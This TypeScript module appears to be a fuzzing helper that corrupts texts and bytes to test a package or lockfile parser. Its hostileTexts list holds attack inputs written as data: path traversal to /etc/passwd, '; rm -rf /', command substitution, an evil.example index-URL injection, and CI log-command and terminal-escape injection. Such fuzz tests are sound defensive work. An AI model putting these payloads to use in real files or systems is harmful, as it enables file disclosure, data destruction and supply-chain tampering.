/** Damage to texts and bytes, from a bit to a bomb. */
import type { Random } from './random.js'

/** What no honest tool writes where a name, a version or an address is meant. */
export const hostileTexts: readonly string[] = [
  '',
  ' ',
  '\0',
  '..',
  '../../../../etc/passwd',
  '/etc/shadow',
  '__proto__',
  'constructor',
  'toString',
  '%',
  '%2e%2e%2f',
  'a\n--index-url https://evil.example/simple',
  '1.0\n-e git+https://evil.example/x',
  'x\r\n::set-output name=digest::evil',
  '::add-mask::x',
  '##[error]x',
  '\u001b[2J\u001b]0;title\u0007',
  '\u202egnp.exe',
  '\ud800',
  '\ufeff',
  '$(touch pwned)',
  '`touch pwned`',
  '; rm -rf /',
  '-rf',
  '--upload-file=/etc/passwd',
  'https://user:s3cr3t-in-lock@host.example/x.whl',
  'http://[::1',
  'file:///etc/passwd',
  'file://host.example/share/x.tar.gz',
  'git+https://evil.example/x',
  'javascript:alert(1)',
  'a'.repeat(5_000),
  '((((((((((((((((((((((((((((((',
  '9'.repeat(400),
  '-1',
  'NaN',
  '1e999',
  '*',
  '>=',
  '===',
  '~=1',
  '0'.repeat(64),
  'é'.repeat(300),
  '💣',
]

/** So many characters are enough to find what grows faster than its input. */
const longRepeat = 20_000

/** One to four kinds of damage to a text. `words`: what belongs to its format. */
export function damagedText(random: Random, text: string, words: readonly string[]): string {
  let damaged = text
  for (let round = 1 + random.int(4); round > 0; round--)
    damaged = damageOnce(random, damaged, words)
  return damaged
}

function damageOnce(random: Random, text: string, words: readonly string[]): string {
  const at = random.int(text.length + 1)
  const end = Math.min(text.length, at + random.int(40))
  const [before, inside, after] = [text.slice(0, at), text.slice(at, end), text.slice(end)]
  switch (random.int(14)) {
    case 0:
      return before + after
    case 1:
      return before + inside + inside + after
    case 2:
      return before + random.pick(words) + inside + after
    case 3:
      return before + random.pick(hostileTexts) + after
    case 4:
      return before
    case 5:
      return after + before
    case 6:
      return before + random.pick(words).repeat(1 + random.int(400)) + after
    case 7:
      return swapLines(random, text)
    case 8:
      return quoted(random, text)
    case 9:
      return text.replaceAll('\n', random.pick(['\r\n', '\r', '\n\n', '\u2028', '']))
    case 10:
      return (
        before +
        String.fromCharCode(random.int(random.chance(0.8) ? 128 : 65_536)) +
        text.slice(at + 1)
      )
    case 11:
      return before + random.pick(nests).repeat(1 + random.int(longRepeat)) + after
    case 12:
      return `${random.pick(['\ufeff', '\0', '#', '{', '[['])}${text}`
    default:
      return text.replace(/\d+/g, (number) =>
        random.chance(0.2)
          ? random.pick(['0', '-1', '1e400', '99999999999999999999', ' '])
          : number,
      )
  }
}

const nests = [
  '[',
  '{',
  '(',
  '"',
  "'",
  '\\',
  '[[',
  '{"a":',
  'a.',
  ' or ',
  '\\\n',
  ' ',
  '\n',
  '#',
  '-',
]

/** Another text between two quotes: the most likely place of an attacker's word. */
function quoted(random: Random, text: string): string {
  const strings = [...text.matchAll(/"([^"\n]*)"/g)]
  if (strings.length === 0) return text
  const { index, 0: found } = random.pick(strings)
  const other = random.chance(0.7)
    ? JSON.stringify(random.pick(hostileTexts))
    : random.pick(['1', 'true', '[]', '{}', 'null', '["a"]', '{a = 1}', '1979-05-27T07:32:00Z'])
  return text.slice(0, index) + other + text.slice(index + found.length)
}

function swapLines(random: Random, text: string): string {
  const lines = text.split('\n')
  const [a, b] = [random.int(lines.length), random.int(lines.length)]
  const [first = '', second = ''] = [lines[a], lines[b]]
  lines[a] = second
  lines[b] = first
  return lines.join('\n')
}

/** A text as bytes; now and then such as are no UTF-8. */
export function bytesOf(random: Random, text: string): Buffer {
  const bytes = Buffer.from(text)
  if (bytes.length > 0 && random.chance(0.05))
    bytes[random.int(bytes.length)] = 0x80 + random.int(128)
  return bytes
}

/** One to five kinds of damage to bytes. */
export function damagedBytes(random: Random, bytes: Buffer): Buffer {
  let damaged: Buffer = Buffer.from(bytes)
  for (let round = 1 + random.int(5); round > 0; round--) damaged = damageBytes(random, damaged)
  return damaged
}

function damageBytes(random: Random, bytes: Buffer): Buffer {
  if (bytes.length === 0) return Buffer.from([random.int(256)])
  const at = random.int(bytes.length)
  const end = Math.min(bytes.length, at + 1 + random.int(600))
  switch (random.int(6)) {
    case 0:
      bytes[at] = (bytes[at] ?? 0) ^ (1 << random.int(8))
      return bytes
    case 1:
      bytes[at] = random.pick([0, 0x20, 0x37, 0x7f, 0x80, 0xff])
      return bytes
    case 2:
      return bytes.subarray(0, at)
    case 3:
      return Buffer.concat([bytes.subarray(0, at), bytes.subarray(end)])
    case 4:
      return Buffer.concat([bytes.subarray(0, end), bytes.subarray(at, end), bytes.subarray(end)])
    default:
      bytes.fill(random.pick([0, 0x30, 0x37, 0xff]), at, end)
      return bytes
  }
}
